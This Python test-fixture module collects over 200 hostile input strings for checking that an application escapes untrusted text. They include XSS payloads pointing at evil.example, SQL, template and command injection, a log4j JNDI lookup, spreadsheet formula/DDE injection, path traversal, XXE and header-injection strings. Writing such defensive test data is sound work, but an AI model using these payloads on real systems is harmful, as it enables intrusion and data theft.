"""What somebody writes who means harm to whoever reads it: 200 texts and more, in ten kinds.

Whatever is markup carries `zq` as a tag's or an attribute's name, which no template of ours has, so
that an element or attribute that came to life is found. Nothing in here reaches beyond example
domains, and a template that is worked out would print PRODUCT."""

from __future__ import annotations

from itertools import cycle

PRODUCT = "123454321"  # 11111 times itself
SUM = "11111*11111"
LONG = 64 * 1024

_ELEMENTS = (
    *(
        "<script zq>alert(1)</script>",
        "<img zq src=x onerror=alert(1)>",
        "<svg zq onload=alert(1)>",
    ),
    *("<iframe zq srcdoc='<script>alert(1)</script>'>", "<a zq href=javascript:alert(1)>x</a>"),
    *("<form zq action=//evil.example/><button zq>x", "<input zq autofocus onfocus=alert(1)>"),
    *("<details zq open ontoggle=alert(1)>", "<style zq>*{display:none}</style>"),
    *("<link zq rel=stylesheet href=//evil.example/x.css>", "<base zq href=//evil.example/>"),
    *("<meta zq http-equiv=refresh content=0;url=//evil.example>", "<body zq onload=alert(1)>"),
    *("<object zq data=//evil.example>", "<video zq src=//evil.example/v onerror=alert(1)>"),
    *("<math zq><mtext><style><img zq src=x onerror=alert(1)>", "<zq-element onclick=alert(1)>"),
    *("<button zq formaction=javascript:alert(1)>x", "<marquee zq onstart=alert(1)>x</marquee>"),
    *("<template zq><script>alert(1)</script>", "<bdo zq dir=rtl>x", "<dialog zq open>owned"),
    *("<portal zq src=//evil.example>", "<noscript><p zq title='</noscript><img zq src=x>'>"),
)
_BREAKS = (
    *('">', "'>", "</textarea>", "</title>", "</script>", "</style>", "-->", "]]>", "\\\"'>"),
    *("</option></select>", "</bdi></blockquote>", "</svg>", "</dialog></main>", "</td></table>"),
)
MARKUP = (
    *_ELEMENTS,
    *(f"{end}{element}" for end, element in zip(_BREAKS, _ELEMENTS, strict=False)),
    *(f"{end}{element}" for end, element in zip(cycle(_BREAKS), _ELEMENTS[::-1], strict=False)),
)
ATTRIBUTES = (
    *('" zq onmouseover=alert(1) x="', "' zq onmouseover=alert(1) x='", "x zq onfocus=alert(1)"),
    *('" zq autofocus onfocus="alert(1)', "` zq onclick=alert(1) `", '" zq style="display:none'),
    *('"\nzq\nonclick="alert(1)', "x/zq/onclick=alert(1)//", "&quot; zq onclick=&quot;alert(1)"),
    *('" zq formaction="javascript:alert(1)', '\\" zq onclick=alert(1)//', "'\"\"' zq=1 '"),
)
ENCODED = (
    *("&lt;script zq&gt;alert(1)&lt;/script&gt;", "&#60;img zq src=x onerror=alert(1)&#62;"),
    *("&#x3c;svg zq onload=alert(1)&#x3e;", "%3Cscript%20zq%3Ealert(1)%3C/script%3E"),
    *("\\u003cscript zq\\u003ealert(1)", "\\x3cscript zq\\x3e", "+ADw-script zq+AD4-alert(1)"),
    *("＜script zq＞alert(1)＜/script＞", "<\x00script zq>alert(1)</script>", "<scr\x00ipt zq>"),
    *("%253Cscript%2520zq%253E", "&amp;lt;script zq&amp;gt;", "<script/zq/src=//evil.example/x>"),
    *("<<script zq>alert(1)//<</script>", "<sCrIpT zq>alert(1)</ScRiPt>", "<!--<img zq src=x>-->"),
    *(
        "<![CDATA[<img zq src=x>]]>",
        "<?xml zq?><x/>",
        "<!DOCTYPE zq [<!ENTITY x SYSTEM 'file:///'>]>",
    ),
)
TEMPLATES = (
    *(f"{{{{ {SUM} }}}}", f"{{{{{SUM}}}}}", f"${{{SUM}}}", f"#{{{SUM}}}", f"<%= {SUM} %>"),
    *(f"*{{{SUM}}}", f"@({SUM})", f"[[${{{SUM}}}]]", f"{{% print({SUM}) %}}", f"{{{{={SUM}}}}}"),
    *("{% include '/etc/passwd' %}", "{{ ''.__class__.__mro__ }}", "{{ config.items() }}", "{#"),
    *("{{ me.__init__.__globals__ }}", "%(x)s", "%s%s%n%n", "{0.__class__}", "{x}", "%(author)s"),
    *(
        "{% raw %}",
        "{% endblock %}",
        "{{",
        "}}",
        "$(id)",
        "`id`",
        "; id",
        "| id",
        "${jndi:ldap://x}",
    ),
)
FORMULAS = (
    *("=1+1", "+1+1", "-2+3", "@SUM(A1)", "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1"),
    *("＝1+1", "＋1", "－1", "＠SUM(A1)", '"=1+1', "'=1+1", " =1+1", ";=1+1", ',"=1+1"', "x\n=1+1"),
    *('=HYPERLINK("//evil.example","x")', "=IMPORTXML(A1,B1)", "=WEBSERVICE(A1)", "=DDE(1;2;3)"),
    *("+cmd|'/C x'!A", "@x\t=1", '="a"&A1', "%0A=1+1", "\x00=1+1", "\ufeff=1+1", "\u200b=1+1"),
)
BIDI = (
    *(f"abc{sign}def" for sign in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e"),
    *("\u202egnp.exe", "\u2067kcab\u2069 forth", "\u061cx", "\u200f<b zq>\u200f", "אבג abc דהו"),
)
CONTROLS = (
    *("\x00", "a\x00b", "\x1b[31mred\x1b[0m", "\x1b]0;owned\x07", "\x1b[2J", "\x9b31m", "\x07\x08"),
    *("\r\nSet-Cookie: zq=1", "x\r\nBcc: all@evil.example", "\r\n\r\n<script zq>", "\n.\nQUIT\n"),
    *("%0d%0aSet-Cookie:zq=1", "\x0b\x0c", "\x7f", "\x85", "\u2028x\u2029", "\x01\x02\x03\x1f"),
    *("\x1a", "Subject: x\r\nTo: y", "\ue000\ue001"),
)
LETTERS = (
    *("\ud800", "\udfff", "\udc00\ud800", "a\ud83dz", "e" + "\u0301" * 300, "\u200b\u200c\u200d"),
    *("\ufeff", "\ufffe\uffff", "\U0010ffff", "\U000e0041\U000e007f", "👩‍👩‍👧🇵🇷", "ﷺ" * 40, "\xad"),
    *("İıſK", "١٢٣", "𝔣𝔲𝔠𝔨", "ㅤ", "\u115f\u1160", "नि" * 100, "\u0e33" * 200),
)
PLACES = (
    *("' OR 1=1 --", "'; DROP TABLE decision; --", "x' UNION SELECT sql FROM sqlite_master --"),
    *(
        '" NEAR(a b)',
        "words:a AND NOT",
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "//evil.example",
    ),
    *(
        "data:text/html,<script zq>alert(1)</script>",
        "https://evil.example/x.png",
        "/\\evil.example",
    ),
    *("../../etc/passwd", "..\\..\\x", "\\\\evil.example\\x", "file:///etc/passwd", "vbscript:x"),
    *("<http://evil.example|x>", "[x](javascript:alert(1))", "<!channel> @everyone", "*b* `c`"),
    *("true", "null", "-1", "1e309", "NaN", "__proto__", "constructor", "[object Object]"),
)
LONGEST = (
    *("x" * LONG, "<b zq>" * (LONG // 6), "ñ" * LONG, "\u0301" * LONG, "&" * LONG),
    *("\r\n" * (LONG // 2), "{{" * (LONG // 2), "=" * LONG, "\x00" * (LONG // 8)),
)
KINDS = (
    *(MARKUP, ATTRIBUTES, ENCODED, TEMPLATES, FORMULAS, BIDI, CONTROLS, LETTERS, PLACES, LONGEST),
)
HOSTILE: tuple[str, ...] = tuple(dict.fromkeys(text for kind in KINDS for text in kind))
# Without what would need minutes to send or draw two hundred times over.
SHORT: tuple[str, ...] = tuple(text for text in HOSTILE if len(text) < 1_000)


def another(number: int, place: int) -> str:
    """A text for the field at `place` of item `number`: each field of an item has another, and over
    all items each has every one."""
    return SHORT[(number + 37 * place) % len(SHORT)]
